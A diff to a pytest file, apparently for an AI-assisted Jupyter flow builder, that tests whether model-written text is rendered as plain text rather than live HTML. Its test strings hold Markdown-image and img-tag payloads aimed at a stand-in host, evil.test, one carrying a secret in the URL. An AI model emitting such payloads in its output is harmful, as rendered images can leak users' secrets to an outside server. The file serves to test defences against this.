@@ -21,6 +21,7 @@ from pathlib import Path
 
 import pytest
 from _support.components import LLM_SPEC, OPENAI_CHAT_MODEL, QA_SPEC, named
+from _support.display import html_of, text_of
 from _support.fakellm import Reply
 from IPython.core.error import UsageError
 
@@ -330,10 +331,9 @@ def test_assist_flow_run_local_asks_for_env_and_reaches_only_allowed_hosts(
     assert "sk-test-magic" not in str(view) + view._repr_html_() + capsys.readouterr().out
 
 
-def test_a_flow_result_keeps_model_text_inside_its_markdown_fence():
-    """A model-written spec holding a fence and an image: rendered as Markdown, it is all code."""
-    from markdown_it import MarkdownIt
-
+def test_a_flow_result_shows_model_text_as_text():
+    """A model-written spec and run output holding a fence, an image and raw HTML: the flow card
+    (HTML in a notebook, text in a terminal) shows them as text, nothing that loads or links."""
     from lfassist_jupyter.core.result import AssistResult, FlowOutcome
     from lfassist_jupyter.sandbox.answers import RealRun
 
@@ -344,10 +344,12 @@ def test_a_flow_result_keeps_model_text_inside_its_markdown_fence():
     result = AssistResult(status="complete", kind="flow", intent="build_flow", validated=True, attempts=1)
     result.outcome = outcome
 
-    rendered = MarkdownIt("commonmark", {"html": True}).render(result._repr_markdown_())
+    rendered = html_of(result)
 
     assert "<img" not in rendered and "<a " not in rendered
-    assert rendered.count("<pre>") == 2 and "![x](http://evil.test/?k=secret)" in rendered
+    assert "![x](http://evil.test/?k=secret) &lt;img src=http://evil.test/y&gt;" in rendered  # the spec, as text
+    assert "![y](http://evil.test/z)" in rendered  # the run's answer, as text
+    assert "![y](http://evil.test/z)" in text_of(result)
 
 
 def test_a_passed_key_is_redacted_reversed_split_or_encoded():
